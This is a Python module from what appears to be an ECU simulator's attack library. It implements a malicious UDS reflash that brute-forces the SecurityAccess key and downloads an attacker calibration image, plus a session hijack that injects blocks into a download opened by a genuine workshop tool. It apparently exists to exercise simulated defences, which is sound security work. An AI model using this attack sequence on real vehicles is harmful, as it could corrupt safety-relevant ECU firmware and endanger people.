"""A malicious reflash: a calibration image of the attacker's, sent with a key found by brute force.

The attacker is a UDS tester with the tick-driven client of :mod:`ecu_sim.tester.client` (the
download's requests take many ISO-TP frames, which the single-frame tester of the other attacks
does not send): the extended and programming sessions, SecurityAccess guessed as ``bruteforce``
does (a key counter from ``first``, the seed asked again every ``retry`` s while a delay
refuses it), then the erase, the image's download in blocks as long as the node grants, the
dependency check and an ECUReset, after which the node runs the image. Programming needs a truck
that stands, as the node checks; the attack waits for it (a refused programming session is asked
for again every ``retry`` s). On a node whose key is out of reach the lockout stops the attack
before a byte is written, and the calibration stays as it was.

``hijack`` is the second tester in the middle of a download: a workshop tool at ``tool`` (it
knows the node's documented key) opens the programming session, unlocks, erases and has its
RequestDownload granted; the attacker, from ``source`` and without any key, then sends the
blocks of its own image into that download, the exit, the check and the reset. It works
wherever a server takes a session's requests from any tester, as this one does with the
``any-tester`` flaw; the default server refuses the attacker's first block (docs/security.md).

Each request is a step of a generator that is sent the answer to the one before, so the
attack's order reads as the exchange itself; every frame it sends (a first frame, its
consecutive frames, the flow control for a long answer) is the attack's, and labelled so.
"""

from __future__ import annotations

from collections.abc import Generator, Sequence
from dataclasses import dataclass
from pathlib import Path

import can

from ecu_sim.attack.family import ADDRESS, ATTACKS, NOT_NEGATIVE, PATH, SOURCE_DIAG, Context, whole
from ecu_sim.attack.tick import Frames
from ecu_sim.attack.unlock import SOURCE_TOOL
from ecu_sim.calibration.files import read_image
from ecu_sim.calibration.layout import AREA_START, CalibrationError
from ecu_sim.registry.family import ParamError, param
from ecu_sim.runtime.ticks import ticks_in
from ecu_sim.tester.client import UdsClient, positive
from ecu_sim.uds.security import LEVEL, SEED_BYTES, default_key

#: a request, or a number of ticks to wait before the next; each is sent the answer (None: none)
Steps = Generator[bytes | int, bytes | None, None]
_DELAYED = frozenset({0x36, 0x37})


@dataclass(frozen=True)
class Reflash:
    target: int = param(ADDRESS, "0x00")
    source: int = param(ADDRESS, SOURCE_DIAG)
    file: str = param(PATH, missing="{kind} needs file=IMAGE (an .s19 or .hex image for the target's "
                      "node kind: ecu-sim calibration build)")
    first: int = param(whole(0, 0xFFFFFFFF), "0")
    retry: float = param(NOT_NEGATIVE, "1")

    def __post_init__(self) -> None:
        if self.retry <= 0:
            raise ParamError("retry must be above 0 s")


@ATTACKS.register("reflash", Reflash, "malicious reflash: the programming session, a key found by brute "
                  "force, then FILE's image erased in, downloaded, checked and started by an ECUReset")
def reflash(p: Reflash, at: Context) -> Frames:
    data = _image(p.file, at)
    retry = max(1, ticks_in(p.retry, at.period_s))
    tester = _Tester(UdsClient(p.source, at.period_s), p.target, _steps(data, p.first, retry))
    return lambda n, heard: tester.frames(n, heard)


@dataclass(frozen=True)
class Hijack:
    target: int = param(ADDRESS, "0x00")
    source: int = param(ADDRESS, SOURCE_DIAG)
    tool: int = param(ADDRESS, SOURCE_TOOL)
    file: str = param(PATH, missing="{kind} needs file=IMAGE (an .s19 or .hex image for the target's "
                      "node kind: ecu-sim calibration build)")
    retry: float = param(NOT_NEGATIVE, "1")

    def __post_init__(self) -> None:
        if self.retry <= 0:
            raise ParamError("retry must be above 0 s")
        if self.tool == self.source or self.target in (self.tool, self.source):
            raise ParamError("target, source and tool must be three addresses")


@ATTACKS.register("hijack", Hijack, "session hijack: a workshop tool at TOOL unlocks, erases and has its "
                  "download granted; the attacker sends FILE's blocks into it, the exit, the check, a reset")
def hijack(p: Hijack, at: Context) -> Frames:
    data = _image(p.file, at)
    retry = max(1, ticks_in(p.retry, at.period_s))
    granted: list[bytes] = []
    tool = _Tester(UdsClient(p.tool, at.period_s), p.target, _workshop(data, retry, granted))
    attacker = _Tester(UdsClient(p.source, at.period_s), p.target, _into(data, granted))

    def frames(n: int, heard: Sequence[can.Message]) -> list[can.Message]:
        out = tool.frames(n, heard)
        return out + attacker.frames(n, heard) if granted else out
    return frames


def _image(path: str, at: Context) -> bytes:
    try:
        return read_image(Path(path)).data
    except CalibrationError as exc:
        raise at.refuse(str(exc)) from None


class _Tester:
    """``steps`` sent by ``client`` to ``target``, each when the answer before it came or its
    wait ran out."""

    def __init__(self, client: UdsClient, target: int, steps: Steps) -> None:
        self.client, self.target, self.steps = client, target, steps
        self.wait_until: int | None = None
        self.started = False

    def frames(self, n: int, heard: Sequence[can.Message]) -> list[can.Message]:
        client = self.client
        for msg in heard:
            client.receive(msg.arbitration_id, msg.data)
        ended = client.finished(n)
        waited = self.wait_until is not None and n >= self.wait_until
        if (not self.started or ended is not None or waited) and not client.waiting:
            self.started, self.wait_until = True, None
            step = _next(self.steps, None if ended is None else ended.answer)
            if isinstance(step, int):
                self.wait_until = n + step
            elif step is not None:
                client.request(self.target, step)
        return [can.Message(arbitration_id=can_id, data=payload, is_extended_id=True)
                for can_id, payload in client.tick(n)]


def _next(steps: Steps, answer: bytes | None) -> bytes | int | None:
    try:
        return steps.send(answer)
    except StopIteration:
        return None


def _steps(image: bytes, first: int, retry: int) -> Steps:
    yield from _programming(retry)
    guess = first
    while True:
        answer = yield b"\x27\x01"
        if answer is not None and answer[:2] == b"\x67\x01":
            if answer[2:] == bytes(SEED_BYTES):
                break
            answer = yield b"\x27\x02" + (guess & 0xFFFFFFFF).to_bytes(SEED_BYTES, "big")
            guess += 1
            if answer is not None and answer[:2] == b"\x67\x02":
                break
        if answer is None or (answer[0] == 0x7F and answer[2] in _DELAYED):
            yield retry
        elif answer[0] == 0x7F and answer[2] in (0x7E, 0x7F):
            yield from _programming(retry)  # the session fell back: enter it again
    # refused anywhere from here: the image did not go in whole, and no reset starts it
    erase = b"\x31\x01\xff\x00"
    if not positive((yield erase), erase) or not (yield from _download(image)):
        return
    check = b"\x31\x01\xff\x01"
    if positive((yield check), check):
        yield b"\x11\x01"


def _workshop(image: bytes, retry: int, granted: list[bytes]) -> Steps:
    """The genuine tool up to its granted download: the sessions, its key, the erase, the request."""
    yield from _programming(retry)
    seed = yield b"\x27\x01"
    if seed is None or seed[:2] != b"\x67\x01":
        return
    if seed[2:] != bytes(SEED_BYTES):
        key = b"\x27\x02" + default_key(seed[2:], LEVEL)
        if not positive((yield key), key):
            return
    erase = b"\x31\x01\xff\x00"
    ask = _ask(image)
    if positive((yield erase), erase):
        answer = yield ask
        if answer is not None and positive(answer, ask):
            granted.append(answer)  # the attacker's cue: the download is open


def _into(image: bytes, granted: list[bytes]) -> Steps:
    """The attacker's blocks into the download the tool opened, then the exit, the check, a reset."""
    if not (yield from _blocks(image, granted[0])):
        return
    check = b"\x31\x01\xff\x01"
    if positive((yield check), check):
        yield b"\x11\x01"


def _programming(retry: int) -> Steps:
    """The extended, then the programming session, asked again while the node refuses (moving)."""
    while True:
        answer = yield b"\x10\x03"
        if positive(answer, b"\x10\x03"):
            answer = yield b"\x10\x02"
            if positive(answer, b"\x10\x02"):
                return
        yield retry


def _download(image: bytes) -> Generator[bytes | int, bytes | None, bool]:
    """RequestDownload of the image at the calibration area, the blocks the node grants, the exit;
    whether each was taken."""
    ask = _ask(image)
    answer = yield ask
    if answer is None or not positive(answer, ask):
        return False
    return (yield from _blocks(image, answer))


def _ask(image: bytes) -> bytes:
    return b"\x34\x00\x44" + AREA_START.to_bytes(4, "big") + len(image).to_bytes(4, "big")


def _blocks(image: bytes, granted: bytes) -> Generator[bytes | int, bytes | None, bool]:
    """TransferData in the blocks RequestDownload's answer ``granted``, then the exit; whether
    each was taken."""
    if len(granted) < 2 + (granted[1] >> 4):
        return False
    block = max(1, int.from_bytes(granted[2:2 + (granted[1] >> 4)], "big") - 2)  # less SID and counter
    for counter, offset in enumerate(range(0, len(image), block), start=1):
        transfer = bytes((0x36, counter & 0xFF)) + image[offset:offset + block]
        if not positive((yield transfer), transfer):
            return False
    return positive((yield b"\x37"), b"\x37")
